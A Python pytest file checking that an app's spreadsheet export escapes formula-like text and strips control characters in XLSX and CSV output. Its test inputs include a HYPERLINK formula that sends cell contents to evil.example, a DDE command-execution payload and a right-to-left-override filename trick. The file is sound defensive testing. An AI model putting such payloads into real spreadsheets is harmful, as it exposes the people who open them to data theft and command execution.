"""Spreadsheet cells written from outside text: no formula, no control character,
in the XLSX read back with openpyxl and in the CSV read back with csv."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from chalicelib.outputs.sheets import cell, to_csv, to_xlsx

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(A1)",
    "-2+3",
    "+84 912 345 678",
    " =x",
    "\t=cmd|' /C calc'!A0",
    "\r=1+2",
    "Trích yếu\x00 có ký tự NUL",
    "Escape \x1b[31m đỏ",
    "Tên tệp \u202egpj.exe",
    "Ẩn\u200b\u200c\u200d\ufeff\u2066x\u2069",
]
CONTROL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200d\u202a-\u202e\u2066-\u2069\ufeff]")


def _no_control(text: str) -> bool:
    return CONTROL.search(text) is None


def test_formula_like_text_is_marked_and_ordinary_text_is_not() -> None:
    assert cell("=1+2") == ("=1+2", True)
    assert cell(" =x") == (" =x", True)
    assert cell("\t@x")[1] and cell("\r-1")[1]
    assert cell("Công văn số 12/UBND") == ("Công văn số 12/UBND", False)
    assert cell("a=b")[1] is False and cell("")[1] is False
    assert cell(None) == ("", False)
    assert cell(-2) == ("-2", False)  # a number is never a formula


def test_cells_are_nfc_and_lose_what_a_spreadsheet_cannot_hold() -> None:
    decomposed = "Quye\u0302\u0301t \u0111i\u0323nh"
    assert cell(decomposed)[0] == "Quyết định"
    assert cell("a\r\nb\rc\td")[0] == "a\nb\nc\td"
    assert cell("Tên tệp \u202egpj.exe")[0] == "Tên tệp gpj.exe"
    for text in HOSTILE:
        assert _no_control(cell(text)[0]), repr(text)


def test_xlsx_holds_no_formula_and_no_control_character() -> None:
    data = to_xlsx("Sổ =thử\x00", ["Số", "Trích yếu"],
                   [[str(i), text] for i, text in enumerate(HOSTILE, 1)], [8, 40])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Sổ =thử"
    values = []
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            values.append(c.value)
            if isinstance(c.value, str) and c.value.lstrip().startswith(("=", "+", "-", "@")):
                assert c.quotePrefix, c.coordinate
    texts = [v for v in values if isinstance(v, str)]
    assert all(_no_control(t) for t in texts)
    # What was typed is what is stored: the formula text, kept as text.
    assert "=1+2" in texts and "@SUM(A1)" in texts and "-2+3" in texts
    assert sheet.cell(1, 2).value == "Trích yếu" and sheet.cell(1, 2).font.bold


def test_csv_holds_no_formula_and_no_control_character() -> None:
    text = to_csv(["Số", "Trích yếu"], [[str(i), t] for i, t in enumerate(HOSTILE, 1)])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["Số", "Trích yếu"]
    assert len(rows) == len(HOSTILE) + 1
    for _, value in rows[1:]:
        assert not value.lstrip().startswith(("=", "+", "-", "@")), value
        assert not value.startswith(("\t", "\r")), value
        assert _no_control(value.replace("\t", "")), value
    assert rows[1][1] == "'=1+2" and rows[4][1] == "'-2+3"
    assert rows[0][0] == "Số" and rows[1][0] == "1"


@pytest.mark.parametrize("text", ["=1+2", "@SUM(A1)", "-2+3", " =x"])
def test_a_formula_is_text_in_both_formats(text: str) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx("T", ["A"], [[text]]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == text
    row = list(csv.reader(io.StringIO(to_csv(["A"], [[text]]).removeprefix("\ufeff"))))[1]
    assert row == [f"'{text}"]
